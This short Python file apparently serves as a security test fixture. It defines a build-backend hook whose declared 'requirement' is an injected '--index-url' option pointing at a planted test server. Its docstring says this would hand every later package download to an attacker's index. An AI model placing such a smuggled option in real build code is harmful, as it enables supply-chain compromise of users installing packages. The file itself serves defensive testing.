"""Returns the option that names another index.

Installers take requirements from their command line, where a word that begins with two
hyphens is an option. With another index, every later name is the attacker's.
"""

import kit


def get_requires_for_build_wheel(config_settings=None):
    requirements = []
    with kit.attempt("return"):
        server = kit.plant("server")
        requirements.append(f"--index-url=http://{server.address}:{server.port}/{kit.nonce}/")
    return requirements
